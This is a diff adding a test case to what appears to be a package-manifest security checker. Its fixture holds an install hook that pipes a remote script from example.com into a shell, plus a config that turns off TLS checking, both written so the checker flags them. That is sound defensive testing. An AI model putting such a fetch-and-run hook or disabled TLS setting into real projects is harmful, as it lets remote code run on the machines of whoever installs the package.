@@ -203,6 +203,26 @@ testChecker(import.meta.url, {
   ],
   flagged: [
     {
+      name: 'what is wrong in a manifest and in settings by themselves',
+      base: { 'package.json': MANIFEST({ a: '^1.0.0', b: '^1.0.0', c: '^1.0.0' }), 'c.js': "require('c');\n" },
+      head: {
+        '.npmrc': 'strict-ssl=false\n',
+        'package.json': MANIFEST(
+          { a: '^1.0.0', b: '*' },
+          { devDependencies: { a: '^2.0.0', c: '^1.0.0' }, scripts: { postinstall: 'curl -s https://example.com/a.sh | sh' } },
+        ),
+      },
+      expect: {
+        findings: [
+          { rule: 'source-unencrypted', path: '.npmrc', line: 1 },
+          { rule: 'version-unbounded', path: 'package.json', line: 6 },
+          { rule: 'request-contradicts', path: 'package.json', line: 9 },
+          { rule: 'import-not-installed', path: 'package.json', line: 10 },
+          { rule: 'install-script-fetches', path: 'package.json', line: 13 },
+        ],
+      },
+    },
+    {
       name: 'a range that the lockfile does not satisfy',
       base: NPM({ ms: '^2.0.0' }, { ms: '2.0.0' }),
       head: { 'package.json': MANIFEST({ ms: '^3.0.0' }) },
